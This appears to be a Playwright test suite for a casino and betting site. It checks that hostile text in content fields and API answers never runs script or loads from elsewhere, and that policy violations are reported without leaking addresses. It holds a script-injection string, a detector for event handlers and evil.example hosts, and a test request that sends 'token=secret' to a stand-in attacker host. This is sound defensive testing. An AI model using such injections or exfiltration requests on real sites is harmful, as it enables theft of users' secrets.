// No author of content (operator, partner or other player) can make the page run anything (D13).
import { rmSync } from 'node:fs';
import { expect, type Page, test } from '@playwright/test';
import {
  ALL_HOSTILE,
  HOSTILE_CATEGORY,
  writeHostileContent,
} from '#tests/support/browser/hostile-content.ts';
import { type Product, seededDataDir, startProduct } from '#tests/support/browser/product.ts';
import { HOSTILE, HOSTILE_ADDRESSES } from '#tests/support/hostile-payloads.ts';
import { logInDemo } from '../steps/log-in.ts';

let product: Product;
let folder: string;

test.beforeAll(async () => {
  folder = seededDataDir('varanda-hostile-');
  await writeHostileContent(folder);
  product = await startProduct({ DATA_DIR: folder });
});
test.afterAll(async () => {
  await product?.stop();
  rmSync(folder, { recursive: true, force: true });
});

// A request that the last page left in flight must not fail the next test.
test.afterEach(({ page }) => page.unrouteAll({ behavior: 'ignoreErrors' }));

/** Records what runs, what breaks, and what the page's policy blocked: all three are faults. */
async function watch(page: Page): Promise<string[]> {
  const faults: string[] = [];
  const path = () => page.url().replace(product.url, '');
  await page.exposeFunction('ran', () => faults.push(`${path()}: something ran`));
  await page.exposeFunction('stopped', (what: string) => faults.push(`${path()}: refused ${what}`));
  page.on('pageerror', ({ message }) => faults.push(`${path()}: ${message}`));
  page.on('dialog', (dialog) => void dialog.dismiss());
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { disposition, effectiveDirective, blockedURI, sample } = event;
      const told = Reflect.get(window, 'stopped');
      if (disposition === 'enforce') told(`${effectiveDirective} ${blockedURI} ${sample}`);
    });
  });
  return faults;
}

/** Everything on the page that would run, navigate or load from elsewhere; pictures have loaded or failed by then. */
const badOn = (page: Page) =>
  page.evaluate(async () => {
    const addresses = ['href', 'src', 'srcset', 'action', 'formaction', 'poster', 'data', 'xlink:href'];
    const isBad = (value: string) => {
      if (!URL.canParse(value, location.href)) return false;
      const { protocol, host } = new URL(value, location.href);
      return !['http:', 'https:', 'blob:'].includes(protocol) || host.endsWith('evil.example');
    };
    const coming = [...document.images].filter(({ loading }) => loading !== 'lazy');
    await Promise.all(coming.map((image) => image.decode().catch(() => {})));
    return [...document.querySelectorAll('*')].flatMap((element) =>
      [...element.attributes].flatMap(({ name, value }) =>
        name.startsWith('on') ||
        (name === 'style' && /ran\(|evil|url\(/.test(value)) ||
        (addresses.includes(name) && isBad(value))
          ? [`${element.localName} ${name}=${value.slice(0, 200)}`]
          : [],
      ),
    );
  });

/** Opens a page, which has its heading and shows the texts as plain text. */
async function look(page: Page, path: string, text = 'ran()'): Promise<void> {
  await test.step(path, async () => {
    await page.goto(product.url + path);
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    await expect(page.locator('#root')).toContainText(text);
    expect(await badOn(page), path).toEqual([]);
  });
}

/** What search engines read of home. */
const toldOfHome = (page: Page) =>
  page.evaluate(() => ({
    title: document.title,
    scripts: [...document.scripts].filter(
      ({ type, text }) => !type.includes('json') && text.includes('ran('),
    ),
    site: JSON.parse(document.querySelector('#structured-data')?.textContent ?? '[]')[1]?.name,
    links: [
      ...new Set(JSON.parse(document.querySelector('#structured-data')?.textContent ?? '[]')[0]?.sameAs),
    ],
    refresh: document.querySelectorAll('meta[http-equiv=refresh], base, object, embed').length,
  }));

test(`${HOSTILE.length} hostile texts in each content field run nothing, and break no page`, async ({
  page,
}) => {
  const faults = await watch(page);
  await look(page, '/');
  await expect(page.locator('#structured-data')).toBeAttached();
  expect(await toldOfHome(page)).toMatchObject({
    title: expect.stringContaining('</title><script>ran()</script>'),
    scripts: [],
    site: ALL_HOSTILE,
    links: ['/promotions'],
    refresh: 0,
  });
  await test.step('the ways in', async () => {
    await page.getByRole('button', { name: 'Criar conta' }).first().click();
    await expect(page.getByRole('dialog', { name: 'Criar conta' }).getByLabel('CPF')).toBeVisible();
    expect(await badOn(page)).toEqual([]);
  });
  for (const path of [
    '/casino',
    '/casino/slots',
    `/casino/${encodeURIComponent(HOSTILE_CATEGORY)}`,
    '/providers',
    '/promotions',
    '/promotions/everything',
    '/termos-de-uso',
  ]) {
    await look(page, path);
  }
  await test.step('what isn’t a page', async () => {
    await page.goto(`${product.url}/sitemap.xml`);
    expect(await page.evaluate(() => document.querySelectorAll('parsererror').length)).toBe(0);
    expect(await page.evaluate(() => document.getElementsByTagName('loc').length)).toBeGreaterThan(80);
    const read = async (path: string) => (await page.request.get(product.url + path)).text();
    expect(await read('/robots.txt')).not.toContain('ran(');
    const manifest = JSON.parse(await read('/manifest.webmanifest'));
    expect(manifest.name).toBe(ALL_HOSTILE);
    expect(manifest.theme_color).toMatch(/^#[0-9A-F]{6}$/i);
    for (const { src } of manifest.icons) expect(src).toMatch(/^\/icons\//);
  });
  expect(faults).toEqual([]);
  expect(product.output()).not.toContain('could not be drawn');
  expect(product.output()).not.toContain('a request failed');
});

/** Names that control the page's behaviour; those of other things are replaced. */
const NAMES = new Set(['source_type', 'key', 'token', 'id', 'code']);
const isText = (value: string) => /[ A-ZÀ-ÿ]/.test(value) && !/^\d{4}-\d\d/.test(value);
const isAddress = (value: string) => /^(https?:\/)?\/\S/.test(value);

/** Replaces an answer's texts and addresses by hostile texts: one after the other for a name that occurs often. */
function hostile(value: unknown, name: string, turns: Map<string, number>): unknown {
  if (Array.isArray(value)) return value.map((one) => hostile(one, name, turns));
  if (value !== null && typeof value === 'object') {
    return Object.fromEntries(Object.entries(value).map(([key, held]) => [key, hostile(held, key, turns)]));
  }
  if (typeof value !== 'string' || NAMES.has(name)) return value;
  // Rich text that our own server would have refused.
  if (name === 'content') return `<p>rich text</p>${ALL_HOSTILE}`;
  const texts = isAddress(value) ? HOSTILE_ADDRESSES : isText(value) ? HOSTILE : undefined;
  if (!texts) return value;
  const turn = turns.get(name) ?? 0;
  turns.set(name, turn + 1);
  return texts[turn % texts.length];
}

test('hostile texts in every text of a call’s answer, from any backend, run nothing either', {
  tag: '@weekly',
}, async ({ page }) => {
  const faults = await watch(page);
  await logInDemo(page, product.url);
  const [event] = (await (await page.request.get(`${product.url}/api/sports/events?live=0`)).json()).data;
  const [game] = (await (await page.request.get(`${product.url}/v2/casino-games?per_page=1`)).json()).data;
  const turns = new Map<string, number>();
  await page.route(/\/(api|v2)\//, async (route) => {
    if (/auth\/|generate-token|broadcasting|csp-reports|vitals/.test(route.request().url()))
      return route.continue();
    const response = await route.fetch({ maxRetries: 2 });
    const json = await response.json().catch(() => undefined);
    return route.fulfill({ response, ...(json === undefined ? {} : { json: hostile(json, '', turns) }) });
  });
  for (const path of [
    '/user/transaction',
    '/user/promotion',
    '/user/promotion/coupon',
    '/user/bonus',
    '/user/account',
    '/user/account/passkeys',
    '/user/account/security',
    '/user/account/sessions',
    '/user/account/privacy',
    '/user/indications',
    '/sports',
    `/sports/event/${event.id}`,
    '/sports/bets',
    `/play/${game.id}`,
    '/casino/favorites',
    '/casino/live',
  ]) {
    await look(page, path);
  }
  for (const path of ['/promotions/everything', '/termos-de-uso']) await look(page, path, 'rich text');
  // The sanitiser parses rich text in a separate document, whose styles the policy refuses; none reaches the page.
  expect(faults.filter((fault) => !fault.includes('refused style-src-elem inline'))).toEqual([]);
});

test('the browser reports what the policy refuses, and it is counted without the requested address', async ({
  page,
}) => {
  const told = () =>
    product
      .output()
      .split('\n')
      .filter((line) => line.includes('"policy report"'))
      .map((line) => JSON.parse(line));
  await page.goto(product.url);
  const before = told().length;
  for (const host of ['one', 'two']) {
    await page.evaluate((name) => {
      new Image().src = `https://${name}.evil.example/x.png?token=secret`;
    }, host);
    await expect.poll(told).toContainEqual(
      expect.objectContaining({
        directive: 'img-src',
        blocked: `https://${host}.evil.example`,
        disposition: 'enforce',
      }),
    );
  }
  expect(told().at(-1).total).toBe(before + 2);
  expect(product.output()).not.toContain('token=secret');
});
